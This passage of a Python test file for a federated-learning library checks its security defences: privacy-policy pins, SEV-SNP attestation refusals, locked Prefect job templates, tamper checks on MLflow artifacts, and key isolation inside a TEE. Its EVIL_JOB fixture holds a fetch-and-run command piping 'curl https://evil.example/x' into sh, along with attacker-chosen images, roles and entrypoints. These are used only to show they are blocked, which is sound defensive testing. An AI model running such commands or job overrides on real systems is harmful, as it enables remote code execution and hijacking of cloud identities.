    store.commit(initial_adapter(config), Manifest(config.federation.id, 0, 1, "run"))

    with pytest.raises(PolicyRefused, match="secure: the train request carries no secure-aggregation session"):
        train_client(config, "aws", 1)  # the federation's own config, no `secure` request
    assert not storage.exists(update_url(config, "aws", 1))
    assert "policy: secure aggregation on, threshold ≥ 2; DP on" in capsys.readouterr().out  # what aws pinned, shown to it

    weakened = {
        "secure_aggregation.enabled": {"secure_aggregation": {"enabled": False}},
        "secure_aggregation.threshold": {"secure_aggregation": {"enabled": True, "threshold": 2}},  # below the raised pin
        "privacy.enabled": {"privacy": {"enabled": False}},
        "privacy.noise_multiplier": {"privacy": {**STRICT["privacy"], "noise_multiplier": 0.1}},
        "privacy.clip_norm": {"privacy": {**STRICT["privacy"], "clip_norm": 50.0}},
        "privacy.delta": {"privacy": {**STRICT["privacy"], "delta": 0.1}},
        "privacy.epsilon_budget": {"privacy": {k: v for k, v in STRICT["privacy"].items() if k != "epsilon_budget"}},
        "privacy.noise_seed": {"privacy": {**STRICT["privacy"], "noise_seed": 1}},
        "split.require_tee": {"split": {"cut": 1}},
        "split.attestation.measurement": {
            "split": {**STRICT["split"], "attestation": {"verifier": "amd-sev-snp", "measurement": "cd" * 48}}
        },
        "split.attestation.min_tcb": {"split": {**STRICT["split"], "attestation": {"verifier": "amd-sev-snp", "measurement": "ab" * 48}}},
        "split.attestation.allow_debug": {
            "split": {**STRICT["split"], "attestation": {**STRICT["split"]["attestation"], "allow_debug": True}}
        },
        "compression.codecs": {"compression": {"codecs": ["sign"]}, "secure_aggregation": {"enabled": False}},
    }
    raised = {**raw, "secure_aggregation": {"enabled": True, "threshold": 3}}  # a party may raise its own pin
    (tmp_path / "raised.yaml").write_text(__import__("yaml").safe_dump(raised))
    assert main(["keys", "trust", str(tmp_path / "raised.yaml"), "--party", "aws"]) == 0
    for field, sections in weakened.items():
        with pytest.raises(PolicyRefused) as info:
            keyring(parse_config({**raised, **sections}), "aws")
        assert f"{field}:" in str(info.value) and "\n" not in str(info.value) and "--lower-policy" in str(info.value), field
    # lowering takes aws's own command, explicitly
    (tmp_path / "weak.yaml").write_text(__import__("yaml").safe_dump({**raised, "privacy": {"enabled": False}}))
    capsys.readouterr()
    assert main(["keys", "trust", str(tmp_path / "weak.yaml"), "--party", "aws"]) == 1
    assert "privacy.enabled: false, pinned true" in capsys.readouterr().err
    assert main(["keys", "trust", str(tmp_path / "weak.yaml"), "--party", "aws", "--lower-policy"]) == 0
    assert keyring(parse_config({**raised, "privacy": {"enabled": False}}), "aws").client_private


def test_o6_sev_snp_refuses_vmpl_3_a_migration_agent_old_abi_revoked_keys_and_unparsable_certificates():
    """At 6dfc021 a report requested at VMPL 3 passed (the field was parsed, never compared), as did
    a guest policy allowing a migration agent (MIGRATE_MA, which can export the guest's memory) and
    any firmware ABI; revocation was not checked at all; and a VCEK with an invalid version or a
    duplicated extension escaped `verify` as cryptography's own `InvalidVersion` or
    `DuplicateExtension` instead of a named refusal. Each is now refused by name; revocation is
    checked against AMD's CRL where the client's operator supplies it (here, one under the test root)."""
    import base64
    from datetime import UTC, datetime, timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import Encoding

    from fedlib.tee.evidence import AttestationFailed, Refusal
    from fedlib.tee.sev_snp import SnpVerifier
    from tests.tee_evidence import SnpAttestor, StandInVendor, with_duplicate_extension, with_version

    vendor = StandInVendor()
    binding = bytes(range(32))
    honest = SnpAttestor(vendor)

    def verifier(**kwargs) -> SnpVerifier:
        return SnpVerifier(measurement=honest.measurement, roots={"Milan": (vendor.root, vendor.intermediate)}, **kwargs)

    def refused(evidence: dict, **kwargs) -> Refusal:
        with pytest.raises(AttestationFailed) as info:
            verifier(**kwargs).verify(evidence, binding)
        return info.value.reason

    verifier().verify(honest.evidence(binding), binding)
    assert refused(SnpAttestor(vendor, vmpl=3, key=honest.key).evidence(binding)) is Refusal.POLICY
    verifier(max_vmpl=3).verify(SnpAttestor(vendor, vmpl=3, key=honest.key).evidence(binding), binding)  # where configured
    assert refused(SnpAttestor(vendor, policy=0x30000 | 1 << 18, key=honest.key).evidence(binding)) is Refusal.POLICY
    assert refused(SnpAttestor(vendor, abi=(1, 49), key=honest.key).evidence(binding)) is Refusal.TCB

    def crl(revoked: list[int], key=vendor.root_key, issuer=vendor.root, age_days: float = 0) -> bytes:
        now = datetime.now(UTC) - timedelta(hours=1, days=age_days)
        builder = x509.CertificateRevocationListBuilder().issuer_name(issuer.subject).last_update(now).next_update(now + timedelta(7))
        for serial in revoked:
            builder = builder.add_revoked_certificate(x509.RevokedCertificateBuilder().serial_number(serial).revocation_date(now).build())
        return builder.sign(key, hashes.SHA384()).public_bytes(Encoding.DER)

    verifier(crl=crl([12345])).verify(honest.evidence(binding), binding)  # a current CRL naming neither key
    assert refused(honest.evidence(binding), crl=crl([vendor.intermediate.serial_number])) is Refusal.REVOKED  # the ASK
    evidence = honest.evidence(binding)
    assert refused(evidence, crl=crl([x509.load_der_x509_certificate(base64.b64decode(evidence["vcek"])).serial_number])) is Refusal.REVOKED
    assert refused(honest.evidence(binding), crl=crl([], age_days=10)) is Refusal.STALE  # past its next update
    assert refused(honest.evidence(binding), crl=crl([], key=ec.generate_private_key(ec.SECP384R1()))) is Refusal.CHAIN

    report = base64.b64decode(evidence["report"])
    vcek = base64.b64decode(evidence["vcek"])
    for der in (with_version(vcek, 7), with_duplicate_extension(vcek)):
        mangled = {**evidence, "vcek": base64.b64encode(der).decode()}
        assert refused(mangled) is Refusal.MALFORMED
    assert report  # the report itself was sound: only the certificate was mangled


EVIL_JOB = {
    "command": "sh -c 'curl https://evil.example/x | sh'",
    "env": {"PYTHONPATH": "/evil", "FEDLIB_EVIL": "1"},
    "env.FEDLIB_EVIL_DOTTED": "1",
    "image": "evil.example/fedlib:latest",
    "task_definition_arn": "arn:aws:ecs:eu-west-1:1:task-definition/evil:1",
    "task_role_arn": "arn:aws:iam::1:role/evil",
    "service_account_name": "evil-sa",
    "identities": ["/subscriptions/evil/identity"],
    "entrypoint": "/evil.sh",
    "args": ["evil"],
    "env_from_secrets": {"EVIL": {"secret": "evil", "version": "latest"}},
    "working_dir": "/tmp/evil",
}


@pytest.mark.parametrize("kind", ["process", "ecs", "cloud-run-v2", "azure-container-instance", "kubernetes"])
def test_o4_no_run_of_a_client_chooses_its_command_image_env_or_identity(kind):
    """Whoever may start a client's runs passes `job_variables` overriding the command, the
    environment, the image and the identity of the job. Rendered by Prefect's own
    `from_template_and_values` (what the worker does before it starts the job), the template shipped
    at 6dfc021, Prefect's default, ran all of it: the caller's command, with the client's key volume
    and bucket role, or with the caller's role. The shipped templates are locked: nothing of the
    caller's reaches the job. And the client refuses at start a run that carries any of them."""
    import asyncio
    import importlib

    from prefect.workers.base import BaseJobConfiguration
    from pydantic import ConfigDict

    from tasks.job_lock import CLIENT_ENTRYPOINT, UnlockedJob, refuse_unlocked_job
    from tests.conftest import ROOT

    class RenderedJob(BaseJobConfiguration):  # every template's own fields, as the worker renders them
        model_config = ConfigDict(extra="allow")

    def rendered(template: dict) -> str:
        job = asyncio.run(RenderedJob.from_template_and_values(template, EVIL_JOB, client=object()))
        return job.model_dump_json()

    workers = {  # the worker packages in .venv: their defaults are the templates shipped at 6dfc021
        "process": "prefect.workers.process:ProcessWorker",
        "ecs": "prefect_aws.workers.ecs_worker:ECSWorker",
        "cloud-run-v2": "prefect_gcp.workers.cloud_run_v2:CloudRunWorkerV2",
        "azure-container-instance": "prefect_azure.workers.container_instance:AzureContainerWorker",
    }
    if kind in workers:  # (prefect-kubernetes is not installed here: its shipped template is attacked below all the same)
        module, name = workers[kind].split(":")
        before = getattr(importlib.import_module(module), name).get_default_base_job_template()
        assert "evil" in rendered(before)  # the attack, on the template as it was
    assert "evil" not in rendered(json.loads((ROOT / "deployments" / "work-pools" / f"{kind}.json").read_text()))

    refuse_unlocked_job(CLIENT_ENTRYPOINT, {"cpu": 1024}, None)  # sizes are the caller's to choose
    for variables in ({"command": "x"}, {"env.X": "1"}, {"image": "x"}):
        with pytest.raises(UnlockedJob, match="job_variables"):
            refuse_unlocked_job(CLIENT_ENTRYPOINT, None, variables)
    with pytest.raises(UnlockedJob, match="entrypoint"):
        refuse_unlocked_job("flows/federated_training.py:federated_training", None)


def test_o5_a_version_edited_in_the_artifact_store_is_refused_before_anything_of_it_loads(tmp_path, corpus_dir, tiny_model_dir):
    """Whoever can write to MLflow's artifact store edits the champion's files: its `MLmodel` names a
    `python_function` loader module planted beside it (which `mlflow.pyfunc.load_model` imports and
    runs, as docs/results.md recommended at 6dfc021), and its PEFT weights are swapped for another
    round's. At 6dfc021 `fedlib export` wrote the swapped weights out as the champion. Now every
    file of a version is in the aggregator's signed record, and `fedlib export` (adapter, merged or
    MLflow model) refuses a version whose files differ, naming the file, before any of it loads."""
    import yaml
    from mlflow.tracking import MlflowClient

    from fedlib_cli.main import main
    from flows.federated_training import federated_training
    from tests.conftest import write_config

    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=CLOUDS)
    raw["training"]["rounds"] = 2
    config_path = write_config(tmp_path, raw)
    federated_training(str(config_path))
    config = parse_config(raw)
    client = MlflowClient(config.tracking_uri, registry_uri=config.tracking_uri)
    champion = client.get_model_version_by_alias(config.registered_model_name, config.tracking.champion_alias)
    assert main(["export", str(config_path), "--out", str(tmp_path / "clean"), "--mlflow-model"]) == 0  # untouched: exported
    assert (tmp_path / "clean" / "MLmodel").exists()

    run = client.get_run(champion.run_id)
    folder = Path(urlparse(run.info.artifact_uri).path) / champion.source.split("/", 2)[2]
    other = next(v for v in client.search_model_versions(f"name = '{config.registered_model_name}'") if v.version != champion.version)
    other_folder = Path(urlparse(client.get_run(other.run_id).info.artifact_uri).path) / other.source.split("/", 2)[2]
    weights = folder / "peft" / "adapter_model.safetensors"
    original = weights.read_bytes()
    weights.write_bytes((other_folder / "peft" / "adapter_model.safetensors").read_bytes())
    assert main(["export", str(config_path), "--out", str(tmp_path / "swapped")]) == 2
    assert not (tmp_path / "swapped" / "adapter_model.safetensors").exists()
    weights.write_bytes(original)

    marker = tmp_path / "planted-code-ran"
    (folder / "planted.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    mlmodel = yaml.safe_load((folder / "MLmodel").read_text())
    mlmodel["flavors"]["python_function"]["loader_module"] = "planted"
    (folder / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    for shape in ([], ["--merge"], ["--mlflow-model"]):
        assert main(["export", str(config_path), "--out", str(tmp_path / f"edited{len(shape)}{shape}"), *shape]) == 2
    assert not marker.exists()


def test_o2_no_key_file_outside_the_tee_opens_a_recorded_split_session(fed, split_server):
    """A tap records a split session whose server passed attestation (`split.require_tee`), and
    holds every key file outside the TEE: the aggregator's (the host, the Nitro parent instance
    that hands it to a diskless enclave, whoever built the image) and every client's. At 6dfc021
    the session secret came from the client's ephemeral key and the aggregator's static key, so
    `aggregator key × recorded ephemeral` opened every recorded activation. Now the server draws
    an ephemeral key for the session inside the TEE, its public half bound into the evidence; the
    tap tries every exchange of a key file with every public key it saw, under both the old and
    the current key derivation, and opens nothing."""
    import itertools

    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PublicKey
    from cryptography.hazmat.primitives.kdf.hkdf import HKDF

    from fedlib.wire.envelope import open_sealed
    from fedlib.wire.keys import fingerprint, load_keyring
    from tests.tee_evidence import NitroAttestor

    state, url = split_server
    state.attestor = NitroAttestor(_vendor())
    client = _connect(_requiring(fed.config, "test-tee"), url, keep_wire=True)
    batch = load_data(fed.config).train.tokens[:2]
    client.calibrate([batch])
    hello, answer, recorded = json.loads(client.transport.wire[2]), json.loads(client.transport.wire[3]), client.transport.wire[4]
    session, nonce = hello["session"], answer["server_nonce"]

    files = load_keyring(fed.config.data_path / "keys", list(CLOUDS))  # every key file there is, outside the TEE
    privates = [files.aggregator_private, *files.client_private.values()]
    seen = [hello["ephemeral"], *([answer["server_ephemeral"]] if "server_ephemeral" in answer else [])]
    publics = [X25519PublicKey.from_public_bytes(bytes.fromhex(h)) for h in seen]
    publics += [files.aggregator_public, *files.client_public.values()]
    raw = {key.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw) for key in publics}
    static = files.aggregator_shared_secret("aws")
    candidates = {private.exchange(public) for private, public in itertools.product(privates, publics)}
    candidates |= {bytes(32), static}
    infos = [f"fedlib/split/v2/{session}/{nonce}".encode()]  # the derivation at 6dfc021
    infos += [f"fedlib/split/v3/{session}/{nonce}/{h}".encode() for h in seen]  # today's, with any key seen as the server's
    ctx = EnvelopeContext(f"split/{session}", 0, "aws>server")
    opened = []
    for shared, info in itertools.product(candidates, infos):
        for first, second in ((shared, static), (static, shared)):
            key = UpdateKey(HKDF(hashes.SHA256(), 32, salt=None, info=info).derive(first + second), fingerprint(files.public_key("aws")))
            try:
                open_sealed(recorded, key, ctx)
                opened.append(info)
            except UpdateRejected:
                pass
    assert len(candidates) >= 10 and len(raw) == len(publics)  # every exchange the key files allow was tried
    assert opened == [], f"a key file outside the TEE opened a recorded message ({opened[0]!r})"
    client.train_step(batch)  # and the session itself works
